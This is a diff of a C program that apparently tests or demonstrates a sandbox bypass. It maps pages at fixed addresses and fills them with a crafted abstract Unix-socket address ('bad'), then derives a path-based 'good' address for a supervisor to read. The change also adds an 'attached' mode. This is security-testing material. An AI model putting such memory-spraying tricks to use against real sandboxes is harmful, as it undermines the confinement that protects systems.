@@ -52,20 +52,25 @@ void *find_page(void) {
     return found;
 }
 
-int forge(void) {
-    struct sockaddr_un bad, good;
+void fill(char *memory) {
+    struct sockaddr_un bad;
     socklen_t length = abstract_address(&bad);
+    for (size_t slot = 0; slot < PAGE_SIZE_OF_SUPERVISOR; slot += 256) {
+        memcpy(memory + slot, &bad, length);
+    }
+}
+
+int forge(void) {
+    struct sockaddr_un good;
     for (unsigned long i = 0; i < PLACE_COUNT; i++) {
         char *place = (char *)FIRST_PLACE + i * PAGE_SIZE_OF_SUPERVISOR;
         if (mmap(place, PAGE_SIZE_OF_SUPERVISOR, PROT_READ | PROT_WRITE,
                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) != place) {
             continue;
         }
-        for (size_t slot = 0; slot < PAGE_SIZE_OF_SUPERVISOR; slot += 256) {
-            memcpy(place + slot, &bad, length);
-        }
+        fill(place);
     }
-    good = bad;
+    socklen_t length = abstract_address(&good);
     good.sun_path[0] = '/';
     int reached = 0;
     char buffer[16];
@@ -90,6 +95,9 @@ int main(int count, char **words) {
     int result = run_fresh(words[1], words);
     if (result == -1) {
         result = run_without_page(words[1]);
+    }
+    if (strcmp(words[1], "attached") == 0) {
+        return run_attached(words[2]);
     }
     if (result != -1) {
         return result;
